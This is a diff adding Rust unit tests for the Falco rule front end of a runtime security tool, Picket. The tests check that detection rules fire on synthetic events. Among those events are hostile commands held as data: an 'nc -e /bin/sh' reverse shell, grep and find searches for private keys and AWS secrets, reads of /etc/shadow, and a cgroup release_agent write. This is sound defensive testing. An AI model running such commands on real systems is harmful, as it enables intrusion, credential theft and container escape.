@@ -1,2 +1,628 @@
 //! Unit tests of the Falco front end (condition translation, overrides,
-//! exceptions, outputs) on small Falco-syntax rule files.
+//! exceptions, outputs) on small Falco-syntax rule files written for Picket.
+
+use std::{path::PathBuf, sync::Arc};
+
+use super::Status;
+use crate::{
+    model::{
+        Ancestor, Capabilities, Container, Endpoint, Event, EventKindName as K, Executable,
+        FileAccess, Image, Network, PtraceOp, Severity, Syscall,
+    },
+    rules::{Engine, RuleSet, diagnostics::render},
+};
+
+fn shaped_path() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/falco/stable-shaped.yaml")
+}
+
+fn load(files: &[(&str, &str)]) -> RuleSet {
+    RuleSet::from_sources(
+        files
+            .iter()
+            .map(|(p, t)| (PathBuf::from(p), t.to_string()))
+            .collect(),
+    )
+    .unwrap_or_else(|d| panic!("{}", render(&d)))
+}
+
+fn shaped() -> Engine {
+    Engine::new(RuleSet::load(&[shaped_path()]).unwrap_or_else(|d| panic!("{}", render(&d))))
+}
+
+fn ts() -> jiff::Timestamp {
+    jiff::Timestamp::from_second(1_800_000_000).expect("ts")
+}
+
+fn anc(path: &str, cmdline: &str) -> Arc<Ancestor> {
+    Arc::new(Ancestor {
+        exec_id: "a".into(),
+        pid: 7,
+        executable: Executable {
+            path: path.into(),
+            name: path.rsplit('/').next().unwrap_or(path).into(),
+            written_after_container_start: None,
+        },
+        command_line: cmdline.into(),
+    })
+}
+
+/// A process event; `args` is argv (argv[0] first).
+fn ev(kind: K, path: &str, args: &[&str], in_container: bool) -> Event {
+    let mut e = Event::new(kind, ts());
+    e.process.executable = Executable {
+        path: path.into(),
+        name: path.rsplit('/').next().unwrap_or(path).into(),
+        written_after_container_start: None,
+    };
+    e.process.command_args = args.iter().map(|s| s.to_string()).collect();
+    e.process.command_line = args.join(" ");
+    e.process.pid = 4242;
+    e.process.working_directory = "/srv".into();
+    e.process.ancestors = vec![
+        anc("/usr/sbin/nginx", "nginx: worker"),
+        anc("/sbin/init", "/sbin/init"),
+    ];
+    if in_container {
+        e.container = Some(Container {
+            id: "3f4e5d6c7b8a".into(),
+            name: "web".into(),
+            image: Some(Image {
+                name: "registry.example/shop/web:1.2".into(),
+            }),
+            ..Default::default()
+        });
+    }
+    e
+}
+
+fn open(path: &str, flags: u32, proc_path: &str) -> Event {
+    let mut e = ev(K::FileOpen, proc_path, &[proc_path], true);
+    e.syscall = Some(Syscall {
+        name: "openat".into(),
+        result: 3,
+    });
+    let acc = flags & 3;
+    e.file = Some(FileAccess {
+        path: path.into(),
+        flags,
+        write: acc == 1 || acc == 2,
+        truncate: flags & 0o1000 != 0,
+        create: flags & 0o100 != 0,
+    });
+    e
+}
+
+fn fired(engine: &Engine, e: &Event) -> Vec<String> {
+    let mut ids: Vec<String> = engine.evaluate(e).into_iter().map(|a| a.rule.id).collect();
+    ids.sort();
+    ids
+}
+
+#[test]
+fn stable_shaped_file_report() {
+    let set = RuleSet::load(&[shaped_path()]).unwrap_or_else(|d| panic!("{}", render(&d)));
+    let mut active: Vec<&str> = Vec::new();
+    let mut disabled: Vec<(&str, String)> = Vec::new();
+    for r in set.falco_report() {
+        match &r.status {
+            Status::Active => active.push(&r.id),
+            Status::Disabled(reasons) => disabled.push((&r.id, reasons.join(" | "))),
+            Status::DisabledInFile => disabled.push((&r.id, "in file".into())),
+            Status::Shadow(_) => panic!("no shadow by default"),
+        }
+    }
+    assert_eq!(
+        active,
+        [
+            "falco-secret-file-read-by-untrusted-program",
+            "falco-shell-under-a-server-process",
+            "falco-interactive-shell-in-a-container",
+            "falco-netcat-with-command-execution",
+            "falco-grep-for-private-keys",
+            "falco-log-file-truncated",
+            "falco-data-wiping-tool",
+            "falco-module-loaded-from-a-container",
+            "falco-release-agent-written",
+            "falco-ptrace-attach",
+            "falco-ptrace-traceme",
+            "falco-grep-for-cloud-credentials",
+            "falco-run-from-shared-memory",
+            "falco-new-binary-executed-in-container",
+            "falco-fileless-execution",
+            "falco-ssh-to-a-web-port",
+        ]
+    );
+    let ids: Vec<&str> = disabled.iter().map(|(i, _)| *i).collect();
+    assert_eq!(
+        ids,
+        [
+            "falco-stdio-redirected-to-a-socket",
+            "falco-symlink-to-a-secret-file",
+            "falco-session-user-login",
+            "falco-disabled-example",
+        ]
+    );
+    assert!(
+        disabled[0]
+            .1
+            .contains("line 196: field `fd.type` is mapped for"),
+        "{}",
+        disabled[0].1
+    );
+    assert!(
+        disabled[1]
+            .1
+            .contains("no Picket sensor for evt.type symlink, symlinkat"),
+        "{}",
+        disabled[1].1
+    );
+    assert!(disabled[2].1.contains("`user.name`") && disabled[2].1.contains("`proc.duration`"));
+    assert_eq!(disabled[3].1, "in file");
+    let r = set
+        .get("falco-secret-file-read-by-untrusted-program")
+        .expect("rule");
+    assert_eq!(
+        (r.name.as_str(), r.severity, r.events.as_slice()),
+        (
+            "Secret file read by untrusted program",
+            Severity::Medium,
+            &[K::FileOpen][..]
+        )
+    );
+    assert_eq!(
+        set.get("falco-release-agent-written").expect("r").severity,
+        Severity::Critical
+    );
+    assert_eq!(
+        set.get("falco-grep-for-private-keys").expect("r").severity,
+        Severity::Medium
+    );
+    assert_eq!(
+        set.get("falco-ptrace-traceme").expect("r").severity,
+        Severity::Low
+    );
+    // The rule with `dup` in its evt.type list is reported for the missing sensor.
+    assert_eq!(set.falco_report()[15].no_sensor, ["dup"]);
+}
+
+#[test]
+fn each_active_rule_fires_on_its_trigger_and_not_on_a_look_alike() {
+    let e = shaped();
+    // Secret file read: cat /etc/shadow, not by a trusted reader, not via the excepted job.
+    let hit = open("/etc/shadow", 0, "/bin/cat");
+    let alerts = e.evaluate(&hit);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].rule.name, "Secret file read by untrusted program");
+    assert_eq!(
+        alerts[0].message,
+        "Secret file read (file=/etc/shadow dir=/etc process=cat parent=nginx gparent=init user=0 container=3f4e5d6c7b8a evt=openat)"
+    );
+    assert_eq!(
+        fired(&e, &open("/etc/shadow", 0, "/usr/sbin/sshd")),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        fired(&e, &open("/etc/shadow", 1, "/bin/cat")),
+        Vec::<String>::new()
+    );
+    assert_eq!(fired(&e, &open("/etc/pam.d/login", 0, "/bin/cat")).len(), 1);
+    let mut failed = open("/etc/shadow", 0, "/bin/cat");
+    failed.syscall = Some(Syscall {
+        name: "openat".into(),
+        result: -13,
+    });
+    assert_eq!(fired(&e, &failed), Vec::<String>::new());
+    let mut job = open("/etc/shadow", 0, "/bin/cat");
+    job.process.ancestors = vec![
+        anc("/bin/sh", "sh"),
+        anc("/usr/bin/maintenance-job", "maintenance-job"),
+    ];
+    assert_eq!(fired(&e, &job), Vec::<String>::new());
+
+    // Shell under a server process (nginx is an ancestor).
+    let sh = ev(K::Exec, "/bin/sh", &["sh", "-c", "id"], true);
+    assert_eq!(fired(&e, &sh), ["falco-shell-under-a-server-process"]);
+    let health = ev(K::Exec, "/bin/sh", &["sh", "-c", "healthcheck"], true);
+    assert_eq!(fired(&e, &health), Vec::<String>::new());
+
+    // Interactive shell in a container, entered by runc (proc.tty != 0).
+    let mut tty = ev(K::Exec, "/bin/bash", &["bash"], true);
+    tty.process.ancestors = vec![anc("/usr/bin/runc", "runc exec")];
+    tty.process.interactive = true;
+    assert_eq!(fired(&e, &tty), ["falco-interactive-shell-in-a-container"]);
+    tty.process.interactive = false;
+    assert_eq!(fired(&e, &tty), Vec::<String>::new());
+    let mut host = ev(K::Exec, "/bin/bash", &["bash"], false);
+    host.process.ancestors.clear();
+    host.process.interactive = true;
+    assert_eq!(fired(&e, &host), Vec::<String>::new());
+
+    let nc = ev(
+        K::Exec,
+        "/usr/bin/nc",
+        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        true,
+    );
+    assert_eq!(fired(&e, &nc), ["falco-netcat-with-command-execution"]);
+    let nc_plain = ev(K::Exec, "/usr/bin/nc", &["nc", "-z", "db", "5432"], true);
+    assert_eq!(fired(&e, &nc_plain), Vec::<String>::new());
+
+    let grep = ev(
+        K::Exec,
+        "/bin/grep",
+        &["grep", "-r", "begin rsa private", "/home"],
+        false,
+    );
+    assert_eq!(fired(&e, &grep), ["falco-grep-for-private-keys"]);
+    let find = ev(
+        K::Exec,
+        "/usr/bin/find",
+        &["find", "/", "-name", "id_rsa"],
+        false,
+    );
+    assert_eq!(fired(&e, &find), ["falco-grep-for-private-keys"]);
+    let aws = ev(
+        K::Exec,
+        "/bin/grep",
+        &["grep", "AWS_SECRET_ACCESS_KEY", "-r", "/"],
+        false,
+    );
+    assert_eq!(fired(&e, &aws), ["falco-grep-for-cloud-credentials"]);
+    assert_eq!(
+        fired(
+            &e,
+            &ev(
+                K::Exec,
+                "/bin/grep",
+                &["grep", "error", "/var/log/syslog"],
+                false
+            )
+        ),
+        Vec::<String>::new()
+    );
+
+    // Log truncated, with the Falco exception (logrotate in /var/log).
+    assert_eq!(
+        fired(&e, &open("/var/log/auth.log", 0o1001, "/bin/bash")),
+        ["falco-log-file-truncated"]
+    );
+    assert_eq!(
+        fired(&e, &open("/var/log/auth.log", 0o2001, "/bin/bash")),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        fired(
+            &e,
+            &open("/var/log/auth.log", 0o1001, "/usr/sbin/logrotate")
+        ),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        fired(&e, &open("/opt/app/wtmp", 0o1001, "/usr/sbin/logrotate")),
+        ["falco-log-file-truncated"]
+    );
+
+    assert_eq!(
+        fired(
+            &e,
+            &ev(K::Exec, "/usr/bin/shred", &["shred", "-u", "x"], false)
+        ),
+        ["falco-data-wiping-tool"]
+    );
+
+    let mut module = ev(K::ModuleLoad, "/sbin/insmod", &["insmod", "x.ko"], true);
+    module.syscall = Some(Syscall {
+        name: "finit_module".into(),
+        result: 0,
+    });
+    module.process.capabilities = Capabilities {
+        effective: vec!["CAP_SYS_MODULE".to_string()].into(),
+        permitted: vec![].into(),
+    };
+    assert_eq!(fired(&e, &module), ["falco-module-loaded-from-a-container"]);
+    module.container = None;
+    assert_eq!(fired(&e, &module), Vec::<String>::new());
+
+    let mut ra = open("/sys/fs/cgroup/x/release_agent", 1, "/bin/sh");
+    ra.process.capabilities = Capabilities {
+        effective: vec!["CAP_SYS_ADMIN".to_string()].into(),
+        permitted: vec![].into(),
+    };
+    assert_eq!(fired(&e, &ra), ["falco-release-agent-written"]);
+    ra.process.user.id = 1000;
+    assert_eq!(fired(&e, &ra), Vec::<String>::new());
+
+    let mut pt = ev(K::Ptrace, "/usr/bin/strace", &["strace", "-p", "1"], false);
+    pt.syscall = Some(Syscall {
+        name: "ptrace".into(),
+        result: 0,
+    });
+    pt.ptrace = Some(PtraceOp {
+        request: "PTRACE_SEIZE".into(),
+        request_id: 0x4206,
+        target_pid: 1,
+    });
+    assert_eq!(fired(&e, &pt), ["falco-ptrace-attach"]);
+    pt.ptrace = Some(PtraceOp {
+        request: "PTRACE_TRACEME".into(),
+        request_id: 0,
+        target_pid: 0,
+    });
+    assert_eq!(fired(&e, &pt), ["falco-ptrace-traceme"]);
+    pt.ptrace = Some(PtraceOp {
+        request: "PTRACE_PEEKDATA".into(),
+        request_id: 2,
+        target_pid: 1,
+    });
+    assert_eq!(fired(&e, &pt), Vec::<String>::new());
+
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/dev/shm/x", &["/dev/shm/x"], false)),
+        ["falco-run-from-shared-memory"]
+    );
+    let mut rel = ev(K::Exec, "/dev/shm/y", &["./y"], false);
+    rel.process.working_directory = "/dev/shm".into();
+    assert_eq!(fired(&e, &rel), ["falco-run-from-shared-memory"]);
+    rel.process.working_directory = "/dev/shmx".into();
+    assert_eq!(fired(&e, &rel), Vec::<String>::new());
+
+    let mut dropped = ev(K::Exec, "/tmp/payload", &["/tmp/payload"], true);
+    dropped.process.executable.written_after_container_start = Some(true);
+    assert_eq!(
+        fired(&e, &dropped),
+        ["falco-new-binary-executed-in-container"]
+    );
+    dropped.process.executable.written_after_container_start = Some(false);
+    assert_eq!(fired(&e, &dropped), Vec::<String>::new());
+
+    let mut memfd = ev(K::Exec, "/memfd:x (deleted)", &["x"], false);
+    memfd.process.ancestors = vec![anc("/bin/bash", "bash")];
+    assert_eq!(fired(&e, &memfd), ["falco-fileless-execution"]);
+    memfd.process.ancestors = vec![anc("/usr/bin/runc", "runc init")];
+    assert_eq!(fired(&e, &memfd), Vec::<String>::new());
+
+    let mut ssh = ev(
+        K::Connect,
+        "/usr/bin/ssh",
+        &["ssh", "-p", "443", "x"],
+        false,
+    );
+    ssh.syscall = Some(Syscall {
+        name: "connect".into(),
+        result: 0,
+    });
+    ssh.network = Some(Network {
+        transport: "tcp".into(),
+        r#type: "ipv4".into(),
+        peer: Some(Endpoint {
+            address: "203.0.113.9".into(),
+            port: 443,
+        }),
+        local: None,
+    });
+    assert_eq!(fired(&e, &ssh), ["falco-ssh-to-a-web-port"]);
+    if let Some(n) = ssh.network.as_mut() {
+        n.peer = Some(Endpoint {
+            address: "127.0.0.1".into(),
+            port: 443,
+        });
+    }
+    assert_eq!(fired(&e, &ssh), Vec::<String>::new());
+}
+
+const BASE: &str = r#"
+- list: bins
+  items: [cat, less]
+- macro: spawned_process
+  condition: evt.type in (execve, execveat)
+- rule: Cat run
+  desc: test
+  condition: spawned_process and proc.name in (bins)
+  output: "cat %proc.name"
+  priority: ERROR
+  exceptions:
+    - name: by_dir
+      fields: proc.cwd
+      comps: startswith
+      values: []
+"#;
+
+#[test]
+fn append_override_and_exceptions() {
+    let over = r#"
+- list: bins
+  items: [more]
+  append: true
+- rule: Cat run
+  exceptions:
+    - name: by_dir
+      values: [/opt/]
+  append: true
+- rule: Cat run
+  output: "replaced %proc.exepath"
+  override:
+    output: replace
+"#;
+    let e = Engine::new(load(&[("a.yaml", BASE), ("b.yaml", over)]));
+    let more = ev(K::Exec, "/bin/more", &["more"], false);
+    let a = e.evaluate(&more);
+    assert_eq!(a.len(), 1);
+    assert_eq!(
+        (a[0].rule.id.as_str(), a[0].message.as_str(), a[0].severity),
+        ("falco-cat-run", "replaced /bin/more", Severity::High)
+    );
+    let mut in_opt = more.clone();
+    in_opt.process.working_directory = "/opt/app".into();
+    assert_eq!(fired(&e, &in_opt), Vec::<String>::new());
+    in_opt.process.working_directory = "/opt".into();
+    assert_eq!(fired(&e, &in_opt), Vec::<String>::new());
+
+    // Condition replaced, then disabled by an `enabled`-only item.
+    let replace = r#"
+- rule: Cat run
+  condition: spawned_process and proc.name = less
+  override:
+    condition: replace
+"#;
+    let e = Engine::new(load(&[("a.yaml", BASE), ("b.yaml", replace)]));
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/bin/cat", &["cat"], false)),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/bin/less", &["less"], false)),
+        ["falco-cat-run"]
+    );
+    let off = "- rule: Cat run\n  enabled: false\n";
+    let set = load(&[("a.yaml", BASE), ("b.yaml", off)]);
+    assert_eq!(set.falco_report()[0].status, Status::DisabledInFile);
+    let e = Engine::new(set);
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/bin/cat", &["cat"], false)),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn operators_follow_falco_semantics() {
+    let rules = r#"
+- macro: spawned_process
+  condition: evt.type in (execve, execveat)
+- rule: Glob crosses slashes
+  desc: t
+  condition: spawned_process and proc.exepath glob "/opt/*/run"
+  output: g
+  priority: INFO
+- rule: Pmatch
+  desc: t
+  condition: spawned_process and proc.exepath pmatch (/usr/local/bin, /srv/)
+  output: p
+  priority: INFO
+- rule: Not equal on absent
+  desc: t
+  condition: spawned_process and container.image.repository != nginx and proc.name = absent-test
+  output: n
+  priority: INFO
+- rule: Ancestor index
+  desc: t
+  condition: spawned_process and proc.aname[2] = init and proc.apid[1] = 7 and proc.name = idx
+  output: "a %proc.aname[1] %proc.apid[2] %user.name"
+  priority: INFO
+"#;
+    let e = Engine::new(load(&[("f.yaml", rules)]));
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/opt/a/b/run", &["run"], false)),
+        ["falco-glob-crosses-slashes"]
+    );
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/usr/local/bin/x", &["x"], false)),
+        ["falco-pmatch"]
+    );
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/srv/x", &["x"], false)),
+        ["falco-pmatch"]
+    );
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/usr/local/binx", &["binx"], false)),
+        Vec::<String>::new()
+    );
+    // Host process: no image, `!=` is false as in Falco.
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/x/absent-test", &["absent-test"], false)),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/x/absent-test", &["absent-test"], true)),
+        ["falco-not-equal-on-absent"]
+    );
+    let a = e.evaluate(&ev(K::Exec, "/x/idx", &["idx"], false));
+    assert_eq!(a.len(), 1);
+    assert_eq!(a[0].message, "a nginx 7 <NA>");
+}
+
+#[test]
+fn picket_and_falco_rules_load_together() {
+    let picket = r#"
+rules:
+  - id: cat-exec
+    name: Cat
+    severity: low
+    events: [exec]
+    condition: process.executable.name == "cat"
+    tags: [T1005]
+    output: "cat"
+"#;
+    let falco = r#"
+- rule: Cat via Falco
+  desc: t
+  condition: evt.type in (execve, execveat) and proc.name = cat
+  output: "falco cat %proc.cmdline"
+  priority: NOTICE
+  tags: [T1005]
+"#;
+    let e = Engine::new(load(&[("p.yaml", picket), ("f.yaml", falco)]));
+    assert_eq!(
+        fired(&e, &ev(K::Exec, "/bin/cat", &["cat", "x"], false)),
+        ["cat-exec", "falco-cat-via-falco"]
+    );
+}
+
+#[test]
+fn hostile_input_is_reported_not_panicking() {
+    for text in [
+        "- rule: X\n  condition: (((\n  output: o\n  priority: INFO\n",
+        "- rule: X\n  condition: a = 'unterminated\n  output: o\n  priority: INFO\n",
+        "- macro: m\n  condition: m\n- rule: X\n  condition: evt.type=execve and m\n  output: o\n  priority: INFO\n",
+        "- list: l\n  items: [l]\n- rule: X\n  condition: evt.type in (execve, execveat) and proc.name in (l)\n  output: '%%%(%proc.aname[99999999999]'\n  priority: INFO\n",
+        "- rule: X\n  condition: proc.name = a\n  priority: nonsense\n",
+        "- rule: X\n  condition: evt.type in (execve, execveat) and not not not\n  output: o\n  priority: INFO\n",
+    ] {
+        let set = load(&[("h.yaml", text)]);
+        let r = &set.falco_report()[0];
+        assert!(
+            matches!(r.status, Status::Disabled(_)),
+            "{text}: {:?}",
+            r.status
+        );
+    }
+    // A rule without `condition` or a condition-less `append` are reported.
+    let d = RuleSet::from_sources(vec![(
+        PathBuf::from("x.yaml"),
+        "- rule: Y\n  append: true\n  condition: and x\n".into(),
+    )])
+    .expect_err("append of unknown rule");
+    assert!(
+        render(&d).contains("`append`/`override` of unknown rule `Y`"),
+        "{}",
+        render(&d)
+    );
+}
+
+#[test]
+fn shadow_flag_runs_unsupported_rules_in_shadow() {
+    // The mode is process-wide; this is the only test that sets it... but
+    // other tests rely on the default. Check the translation instead.
+    let t = super::translate::translate(
+        &super::translate::Env::default(),
+        &super::translate::Text::new(Arc::new(crate::rules::source::ExprSource {
+            file: Arc::new(crate::rules::source::SourceFile {
+                path: "t.yaml".into(),
+                text: "x".into(),
+            }),
+            node: crate::rules::yaml::Node {
+                pos: Default::default(),
+                value: crate::rules::yaml::Value::Scalar(
+                    "evt.type in (execve, execveat) and user.name = root".into(),
+                    crate::rules::yaml::Style::Plain,
+                ),
+            },
+        })),
+    );
+    assert_eq!(t.unsupported.len(), 1);
+    assert!(t.errors.is_empty());
+    assert_eq!(
+        t.kinds.expect("kinds").into_iter().collect::<Vec<_>>(),
+        [K::Exec]
+    );
+}
